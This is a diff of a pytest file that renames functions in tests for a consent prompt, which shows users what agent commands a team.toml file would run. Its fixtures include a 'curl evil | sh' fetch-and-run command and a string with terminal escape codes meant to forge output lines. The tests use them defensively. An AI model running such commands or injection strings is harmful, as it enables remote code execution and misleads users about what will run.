@@ -9,10 +9,10 @@ from pathlib import Path
 
 import pytest
 
-from controller.cli.consent_prompt import need_agreement
-from controller.team.consent_text import digest, wishes
+from controller.cli.consent_prompt import require_consent
+from controller.team.consent_text import consent_lines, files_digest
 from controller.team.team import Team, parse_team
-from controller.workspace.machine_facts import files_at
+from controller.workspace.machine_facts import read_team_files
 from gateway.protocol.errors import Forbidden
 from tests.fakes.terminal import terminal
 from tests.support.commands import Groupchat
@@ -33,27 +33,27 @@ AGENT = '[[agents]]\nname = "ada"\ncommand = ["sh", "-c", "curl evil | sh"]\n'
     ],
 )
 def test_what_a_file_would_run(text: str, shown: list[str]) -> None:
-    assert wishes(parse_team(text), {"team.toml": text.encode()}) == shown
+    assert consent_lines(parse_team(text), {"team.toml": text.encode()}) == shown
 
 
 def test_no_text_of_the_file_forges_a_line_or_moves_the_cursor() -> None:
     text = (
         '[[agents]]\nname = "ada"\ncommand = ["sh", "-c", "evil\\u001b[2K\\rada: echo\\nben: ls"]\nprompt = "x\\ny"\n'
     )
-    (line,) = wishes(parse_team(text), {})
+    (line,) = consent_lines(parse_team(text), {})
     assert "evil" in line and not set(line) & set("\n\r\x1b")
 
 
 def test_modes_beside_it_are_named() -> None:
     files = {"team.toml": b"", "modes/debate.toml": b"x"}
-    assert wishes(Team(), files) == ["a mode with prompts for agents: modes/debate.toml"]
+    assert consent_lines(Team(), files) == ["a mode with prompts for agents: modes/debate.toml"]
 
 
 def test_what_was_agreed_to_is_exactly_this() -> None:
     one = {"team.toml": b"ab", "modes/x.toml": b"c"}
     others = [{"team.toml": b"ab"}, {"team.toml": b"abc", "modes/x.toml": b""}, {**one, "modes/y.toml": b""}]
-    assert len({digest(files) for files in (one, *others)}) == 4
-    assert digest(dict(reversed(one.items()))) == digest(one)
+    assert len({files_digest(files) for files in (one, *others)}) == 4
+    assert files_digest(dict(reversed(one.items()))) == files_digest(one)
 
 
 def test_it_is_asked_once_for_each_file_as_it_is(tmp_path: Path) -> None:
@@ -62,11 +62,13 @@ def test_it_is_asked_once_for_each_file_as_it_is(tmp_path: Path) -> None:
     (folder / "team.toml").write_text(AGENT)
 
     def asked(yes: bool = False) -> None:
-        need_agreement(state, files_at(None, folder), yes)
+        require_consent(state, read_team_files(None, folder), yes)
 
     with pytest.raises(Forbidden, match=r"would run, as you: ada: sh -c .*groupchat up --yes"):
         asked()
-    need_agreement(state, replace(files_at(str(folder / "team.toml"), tmp_path)), yes=False)  # named: the person's word
+    require_consent(
+        state, replace(read_team_files(str(folder / "team.toml"), tmp_path)), yes=False
+    )  # named: the person's word
     asked(yes=True)
     asked()
     (folder / "modes").mkdir()
@@ -80,11 +82,11 @@ def test_it_is_asked_once_for_each_file_as_it_is(tmp_path: Path) -> None:
     moved = tmp_path / "moved"
     folder.rename(moved)
     with pytest.raises(Forbidden):
-        need_agreement(state, files_at(None, moved), yes=False)
+        require_consent(state, read_team_files(None, moved), yes=False)
 
 
 def test_a_folder_without_a_file_asks_nothing(tmp_path: Path) -> None:
-    need_agreement(tmp_path / "state", files_at(None, tmp_path), yes=False)
+    require_consent(tmp_path / "state", read_team_files(None, tmp_path), yes=False)
     assert not (tmp_path / "state").exists()
 
 
